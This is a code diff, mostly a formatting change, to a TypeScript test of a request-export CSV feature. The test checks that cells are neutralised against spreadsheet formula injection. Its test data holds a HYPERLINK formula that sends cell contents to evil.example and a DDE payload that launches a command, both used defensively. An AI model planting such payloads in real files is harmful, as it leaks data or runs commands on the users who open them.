@@ -22,7 +22,8 @@ describe("request export", () => {
     const t = await createConsoleTenant(db());
     const total = 10_050;
     const prefix = `req_${randomBytes(4).toString("hex")}`;
-    await db().execute(sql`insert into authorization_requests (request_id, tenant_id, body_hash, status, principal, action, principal_type, action_type, summary, routing_targets, expires_at, created_at)
+    await db()
+      .execute(sql`insert into authorization_requests (request_id, tenant_id, body_hash, status, principal, action, principal_type, action_type, summary, routing_targets, expires_at, created_at)
       select ${prefix} || lpad(i::text, 10, '0'), ${t.tenantId}, 'h', 'approved', '{"type":"human","attributes":[]}', '{"type":"x","summary":"s"}', 'human', 'x', 'bulk ' || i,
         array['default'], now() + interval '1 hour', now() - make_interval(secs => i)
       from generate_series(1, ${total}) as i`);
@@ -37,24 +38,50 @@ describe("request export", () => {
 
   it("neutralises spreadsheet formulas in every cell, and exports decision, reviewers, keyId, fail-open, execution and routing", async () => {
     const t = await createConsoleTenant(db());
-    expect((await callRoute(settings.PUT, { method: "PUT", headers: t.admin, json: { routingScript: '["$approve"]' } })).status).toBe(200);
+    expect(
+      (await callRoute(settings.PUT, { method: "PUT", headers: t.admin, json: { routingScript: '["$approve"]' } }))
+        .status,
+    ).toBe(200);
     const hostile = { summary: '=HYPERLINK("http://evil.example/?"&A1,"click")', externalId: "+1+cmd|' /C calc'!A0" };
     const submitted = await callRoute(v1Requests.POST, {
-      method: "POST", headers: bearer(t.apiKey),
-      json: { externalId: hostile.externalId, principal: { type: "human", attributes: [{ key: "email", label: "Email", value: "a@b.example" }] }, action: { type: "@SUM(1)", summary: hostile.summary } },
+      method: "POST",
+      headers: bearer(t.apiKey),
+      json: {
+        externalId: hostile.externalId,
+        principal: { type: "human", attributes: [{ key: "email", label: "Email", value: "a@b.example" }] },
+        action: { type: "@SUM(1)", summary: hostile.summary },
+      },
     });
     expect(submitted.status).toBe(200);
     const requestId = submitted.body.requestId as string;
-    await db().execute(sql`update authorization_requests set decision_reviewers = ${JSON.stringify([{ type: "human", attributes: [{ key: "email", label: "Email", value: "r1@b.example" }, { key: "reason", label: "Reason", value: "-looks fine" }] }, { type: "human", attributes: [{ key: "reason", label: "Reason", value: "second look" }] }])}::jsonb,
+    await db().execute(sql`update authorization_requests set decision_reviewers = ${JSON.stringify([
+      {
+        type: "human",
+        attributes: [
+          { key: "email", label: "Email", value: "r1@b.example" },
+          { key: "reason", label: "Reason", value: "-looks fine" },
+        ],
+      },
+      { type: "human", attributes: [{ key: "reason", label: "Reason", value: "second look" }] },
+    ])}::jsonb,
       decision_key_id = 'auth-key-1', status_reason = '-2+3' where request_id = ${requestId}`);
-    const response = await exportRoute.GET(new Request(`${origin}/api/console/requests/export?format=csv`, { headers: t.viewer }), { params: Promise.resolve({}) });
+    const response = await exportRoute.GET(
+      new Request(`${origin}/api/console/requests/export?format=csv`, { headers: t.viewer }),
+      { params: Promise.resolve({}) },
+    );
     const [header, row] = (await response.text()).trimEnd().split("\r\n");
     const cells = Object.fromEntries(header!.split(",").map((name, i) => [name, csvCells(row!)[i]]));
     expect(cells.summary).toBe(`'${hostile.summary}`);
     expect(cells.externalId).toBe(`'${hostile.externalId}`);
     expect(cells.actionType).toBe("'@SUM(1)");
     expect(cells.statusReason).toBe("'-2+3");
-    expect(cells).toMatchObject({ status: "approved", decisionSource: "routing", failOpen: "false", decisionKeyId: "auth-key-1", routingTargets: "$approve" });
+    expect(cells).toMatchObject({
+      status: "approved",
+      decisionSource: "routing",
+      failOpen: "false",
+      decisionKeyId: "auth-key-1",
+      routingTargets: "$approve",
+    });
     expect(cells.reviewers).toBe("human(email=r1@b.example, reason=-looks fine) | human(reason=second look)");
     for (const value of Object.values(cells)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
   });
